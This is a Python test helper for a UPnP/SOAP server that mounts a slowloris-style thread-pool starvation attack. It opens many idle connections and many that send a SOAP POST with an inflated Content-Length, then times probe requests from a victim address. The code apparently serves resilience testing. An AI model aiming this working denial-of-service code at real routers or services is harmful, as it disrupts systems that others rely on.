#!/usr/bin/python3
"""Thread-pool starvation attack and probe, for test_starvation.sh.

  starve.py attack CTLURL SERVICETYPE ATTACKER VICTIM IDLE PARTIAL PROBES
                   TIMEOUT
  starve.py parallel URL SOURCE N TIMEOUT

From ATTACKER (local addresses to bind to, comma-separated), each address
opens PARTIAL connections to CTLURL that send a SOAP POST whose
Content-Length is larger than the body sent, then IDLE connections that
send nothing, all at once and kept open.
Then, while they are held, PROBES GetExternalIPAddress calls from VICTIM,
each given TIMEOUT seconds. Then closes the attacker's connections and
makes one more call from the first ATTACKER address. Prints one JSON
object (counts are totals over the attacker addresses):

  partial, idle    attacker connections established within 2 s
  pending          attacker connections still not established then
  probes           seconds each victim call took, null when it got no
                   200 answer with an address within TIMEOUT
  held             established attacker connections the server had not
                   closed or answered when the probes ended
  after            seconds the attacker's own call took after it closed
                   its connections, or null

parallel: N GETs of URL from SOURCE at once, as a control point that
fetches several documents in parallel; prints a JSON list of the seconds
each took, null for one that got no 200 within TIMEOUT.

Standard library only; every wait is bounded.
"""
import errno
import json
import os
import select
import socket
import sys
import threading
import time
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import ssdp  # noqa: E402

CONNECT_WAIT = 2.0      # seconds for a batch of connects to complete
SETTLE = 0.5            # seconds for the server to hand them to workers
PROBE_GAP = 0.3         # seconds between probes


def open_batch(src, host, port, n):
    """n non-blocking connects from src; returns (established, pending)."""
    socks = []
    for _ in range(n):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        s.bind((src, 0))
        rc = s.connect_ex((host, port))
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            continue
        socks.append(s)
    done, waiting = [], list(socks)
    end = time.monotonic() + CONNECT_WAIT
    while waiting and time.monotonic() < end:
        _, w, _ = select.select([], waiting, [], end - time.monotonic())
        for s in w:
            waiting.remove(s)
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                done.append(s)
            else:
                s.close()
    return done, waiting


def partial_request(u, stype):
    body = ssdp.soap_body(stype, "GetExternalIPAddress", [])
    head = ("POST %s HTTP/1.1\r\nHOST: %s:%d\r\n"
            "CONTENT-TYPE: text/xml; charset=\"utf-8\"\r\n"
            "SOAPACTION: \"%s#GetExternalIPAddress\"\r\n"
            "CONTENT-LENGTH: %d\r\n\r\n"
            % (u.path, u.hostname, u.port, stype, len(body) + 1000))
    return head.encode() + body


def probe(url, stype, src, timeout):
    body = ssdp.soap_body(stype, "GetExternalIPAddress", [])
    hdrs = {"CONTENT-TYPE": 'text/xml; charset="utf-8"',
            "SOAPACTION": '"%s#GetExternalIPAddress"' % stype}
    t0 = time.monotonic()
    try:
        status, _, payload = ssdp.http("POST", url, body, hdrs,
                                       timeout=timeout, source=src)
    except OSError:
        return None
    took = time.monotonic() - t0
    if status != 200 or b"NewExternalIPAddress>" not in payload:
        return None
    return round(took, 3)


def still_held(s):
    """True when the server has neither closed s nor answered on it."""
    try:
        s.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except BlockingIOError:
        return True
    except OSError:
        return False
    return False


def timed_get(url, src, timeout, out, i):
    t0 = time.monotonic()
    try:
        status, _, _ = ssdp.http("GET", url, timeout=timeout, source=src)
    except OSError:
        return
    if status == 200:
        out[i] = round(time.monotonic() - t0, 3)


def cmd_parallel(url, src, n, timeout):
    out = [None] * int(n)
    threads = [threading.Thread(target=timed_get,
                                args=(url, src, float(timeout), out, i))
               for i in range(int(n))]
    for t in threads:
        t.start()
    for t in threads:
        t.join(float(timeout) + 5)
    print(json.dumps(out))
    return 0


def cmd_attack(argv):
    url, stype, attacker, victim = argv[0:4]
    idle, partial, probes = int(argv[4]), int(argv[5]), int(argv[6])
    timeout = float(argv[7])
    u = urllib.parse.urlsplit(url)
    part, part_wait, idle_done, idle_wait = [], [], [], []
    for src in attacker.split(","):
        done, wait = open_batch(src, u.hostname, u.port, partial)
        for s in done:
            s.setblocking(True)
            s.sendall(partial_request(u, stype))
        part += done
        part_wait += wait
        done, wait = open_batch(src, u.hostname, u.port, idle)
        idle_done += done
        idle_wait += wait
    time.sleep(SETTLE)
    took = []
    for i in range(probes):
        if i:
            time.sleep(PROBE_GAP)
        took.append(probe(url, stype, victim, timeout))
    held = sum(1 for s in part + idle_done if still_held(s))
    for s in part + part_wait + idle_done + idle_wait:
        s.close()
    time.sleep(SETTLE)
    after = probe(url, stype, attacker.split(",")[0], timeout)
    print(json.dumps({"partial": len(part), "idle": len(idle_done),
                      "pending": len(part_wait) + len(idle_wait),
                      "probes": took, "held": held, "after": after}))
    return 0


def main(argv):
    if len(argv) == 10 and argv[1] == "attack":
        return cmd_attack(argv[2:])
    if len(argv) == 6 and argv[1] == "parallel":
        return cmd_parallel(*argv[2:])
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
